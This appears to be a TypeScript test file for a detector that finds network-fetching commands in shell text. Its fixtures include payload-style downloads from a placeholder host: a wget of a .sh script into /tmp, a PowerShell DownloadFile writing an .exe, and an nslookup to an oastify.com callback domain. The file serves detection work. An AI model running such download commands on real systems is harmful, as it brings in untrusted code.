import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { shellRequests } from './shell-requests.ts';

describe('shellRequests()', () => {
  it.each([
    ['curl http://a.io/x', 'curl', 'http://a.io/x', []],
    ['cd /tmp && wget -q http://a.io/x.sh', 'wget', 'http://a.io/x.sh', ['x.sh']],
    ['sh -c "curl -o /tmp/b http://a.io/x"', 'curl', 'http://a.io/x', ['b']],
    ['echo $(curl http://a.io/x)', 'curl', 'http://a.io/x', []],
    ['(curl http://a.io/x)', 'curl', 'http://a.io/x', []],
    [
      "powershell -c \"(New-Object Net.WebClient).DownloadFile('http://a.io/x', 'C:\\t\\y.exe')\"",
      'powershell',
      'http://a.io/x',
      ['y.exe'],
    ],
  ])('%s', (text, program, url, files) => {
    expect(shellRequests(text)).toContainEqual({ program, url, isLookup: false, files });
  });

  it('knows programs that only look up a name', () => {
    expect(shellRequests('nslookup a.oastify.com')).toEqual([
      { program: 'nslookup', url: 'a.oastify.com', isLookup: true, files: [] },
    ]);
  });

  it.each(['', 'git clone https://a.io/x', 'echo curl', 'curl $URL', 'python setup.py build'])(
    '%j requests nothing',
    (text) => {
      expect(shellRequests(text)).toEqual([]);
    },
  );

  it('reads any text, and is bounded', () => {
    fc.assert(fc.property(fc.string(), (text) => Array.isArray(shellRequests(text))));
    expect(shellRequests('curl http://a.io;'.repeat(100_000))).toHaveLength(50);
    expect(shellRequests('$(curl a.io '.repeat(50_000)).length).toBeLessThanOrEqual(50);
  });
});
